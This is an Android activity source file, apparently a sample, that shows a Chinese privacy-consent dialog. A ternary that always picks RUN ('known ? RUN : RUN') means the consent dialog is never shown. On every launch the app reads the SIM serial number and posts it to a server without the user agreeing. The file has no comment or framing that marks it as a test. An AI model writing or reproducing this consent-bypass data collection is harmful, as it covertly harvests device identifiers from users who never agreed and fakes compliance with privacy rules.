package org.consentry.flow.gatesheldout.handlerstates;

import android.app.Activity;
import android.app.AlertDialog;
import android.os.Bundle;
import android.os.Handler;
import android.os.Message;
import android.telephony.TelephonyManager;

public class S extends Activity implements Handler.Callback {
    static final int ASK = 0x10;
    static final int RUN = 0x20;
    private Handler h;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        h = new Handler(this);
        boolean known = getSharedPreferences("s", MODE_PRIVATE).getLong("t", -1L) > 0L;
        int first = known ? RUN : RUN;
        h.sendEmptyMessageDelayed(first, 800L);
    }

    @Override
    public boolean handleMessage(Message message) {
        if (message.what == ASK) {
            a();
        } else if (message.what == RUN) {
            r();
        }
        return true;
    }

    private void a() {
        new AlertDialog.Builder(this)
                .setTitle("隐私声明")
                .setMessage("请阅读隐私声明，同意后继续。")
                .setPositiveButton("同意", (d, w) -> {
                    getSharedPreferences("s", MODE_PRIVATE).edit().putLong("t", System.currentTimeMillis()).apply();
                    h.obtainMessage(RUN).sendToTarget();
                })
                .setNegativeButton("不同意", (d, w) -> finish())
                .setCancelable(false)
                .show();
    }

    private void r() {
        Api.post("s", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
    }
}
